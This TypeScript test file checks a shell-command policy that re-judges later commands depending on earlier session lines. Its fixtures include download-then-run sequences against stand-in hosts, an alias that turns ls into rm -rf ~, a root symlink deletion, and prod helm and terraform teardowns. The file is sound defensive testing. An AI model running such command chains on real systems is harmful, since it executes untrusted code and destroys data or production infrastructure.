// Which later commands the lines of a session's prelude can matter to.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { judge_continued } from '#core/policy/continued.ts'
import { continue_prelude } from '#core/policy/prelude.ts'
import { reach_of } from '#core/policy/reach.ts'
import type { FileFacts, Policy, Prelude } from '#core/policy/verdict.ts'
import { cwd, policy, shell } from '#test/support/session-steps.ts'

function prelude_of(lines: readonly string[]): Prelude {
  const prelude = lines.reduce<Prelude | null>((before, line) => continue_prelude(before, line, cwd), null)
  assert.ok(prelude)
  return prelude
}

function facts_of(prelude: Prelude): FileFacts {
  return { written: new Map(), secrets_read: [], hosts: [], denied_effects: [], prelude }
}

/** The verdict behind a prelude, and how often the policy was asked for it. */
function judged_behind(prelude: Prelude, command: string) {
  let times = 0
  const counted: Policy = {
    ...policy,
    judge(action, facts) {
      times++
      return policy.judge(action, facts)
    },
  }
  const { verdict } = judge_continued(counted, shell(command), facts_of(prelude))
  return { verdict, times }
}

function judged(lines: readonly string[], command: string) {
  return judged_behind(prelude_of(lines), command)
}

const REACHED: readonly (readonly [string, string])[] = [
  ['curl -so x.sh https://x.example/i', 'bash x.sh'],
  ['curl -so x https://x.example/i', 'sh x'],
  ['curl -o/tmp/q https://x.example/i', 'sh /tmp/q'],
  ['curl --output=t/run https://x.example/i', 'cd t && ./run'],
  ['curl -O https://x.example/dl/setup.sh?v=2', 'sh setup.sh'],
  ['curl -s https://x.example/i > i.txt', 'python3 i.txt'],
  ['wget https://x.example/a/install.py', 'python3 install.py'],
  ['wget -P tools https://x.example/a/t', 'tools/t'],
  ['base64 -d p.b64 > q', "sh 'q'"],
  ['base64 -d p.b64 > 1', 'sh 1'],
  ['gunzip z.sh.gz', 'sh z.sh'],
  ['mv x.txt run.sh', 'sh *.sh'],
  ['mv x.txt run.sh', 'sh "$(ls | tail -1)"'],
  ['cp a.txt "$T"', 'sh b.txt'],
  ['cp -r /tmp/got/. .', './configure'],
  ['tar xzf got.tgz', 'make'],
  ['curl -sL https://x.example/x.tar | tar x', 'sh install.sh'],
  ['curl -so Makefile https://x.example/m', 'make'],
  ['curl -so conftest.py https://x.example/m', 'pytest -q'],
  ['git clone https://git.example/a/tool.git', 'make -C tool'],
  ['alias ls="rm -rf ~"', 'ls'],
  ['ln -s / here', 'rm -rf here/'],
  ['kubectl config use-context prod', 'helm uninstall web'],
  ['terraform workspace select prod', 'terraform apply -auto-approve'],
  ['git remote add m https://git.example/m.git', 'git push m --all'],
  ['curl -so .github/workflows/ci.yml https://x.example/w', 'git push'],
]

for (const [line, command] of REACHED) {
  test(`it is judged behind the line: ${line} ; ${command}`, () => {
    assert.ok(judged([line], command).times > 1)
  })
}

const OUT_OF_REACH: readonly (readonly [string, string])[] = [
  ['curl -so x.sh https://x.example/i', 'npm test'],
  ['curl -so x.sh https://x.example/i', 'bash y.sh'],
  ['curl -so x.sh https://x.example/i', 'bash prefix-x.shell'],
  ['curl -so data.csv https://x.example/i', 'sh *.sh'],
  ["curl -s -H 'Accept: text/plain' -F f=@a.txt http://localhost:1/u", 'python3 a.py'],
  ['xxd -p data.bin | tr -d "x" | head -c 64', 'head -c 20 a.txt | sh -n'],
  ['cp .env.example .env', 'npm run build'],
  ['tar xzf got.tgz', 'rg -n TODO src'],
  ['git clone https://git.example/a/tool.git', 'npm ci'],
  ['alias ll="ls -la"', 'npm test'],
  ['kubectl config use-context prod', 'npm test'],
  ['docker compose up -d', 'npm test'],
  ['mkdir -p out', 'node out.js'],
]

for (const [line, command] of OUT_OF_REACH) {
  test(`it is judged once: ${line} ; ${command}`, () => {
    assert.equal(judged([line], command).times, 1)
  })
}

test('a move that leads to what was brought counts as its name', () => {
  assert.ok(judged(['git clone https://git.example/a/tool.git', 'cd tool'], 'sudo make install').times > 2)
})

test('what is objected to in the lines themselves is not said of the command behind them', () => {
  // Each line was judged in the directory it was called in; read one after the other, the second one works in /etc.
  for (const command of ['psql -f notes.sql', 'npm ci', 'node a.js']) {
    assert.equal(judged(['cd /etc', 'mv notes.sql package.json', 'cd ~'], command).verdict, 'allow', command)
  }
  assert.equal(judged(['cp a.txt dist.txt'], 'rmdir /s /q dist').verdict, 'allow')
})

test('a prelude without a reach, as one step teaches it, keeps nothing from being judged', () => {
  const { reach: _, ...prelude } = prelude_of(['curl -so x.sh https://x.example/i'])
  assert.equal(judged_behind(prelude, 'npm test').times, 2)
})

test('names are those of what lines leave behind, not of their options, hosts and pipes', () => {
  const { names } = reach_of([
    'curl -sS -m 10 -o out/a.json https://api.example.com/v1/items?x=1',
    'docker build -t team/app:dev .',
    'git clone --depth 1 git@github.com:acme/widgets.git',
    'xxd -p data.bin | tr -d n > hex.out',
  ])
  assert.deepEqual([...names].sort(), ['a.json', 'app', 'data.bin', 'hex.out', 'items', 'widgets', 'widgets.git'])
})
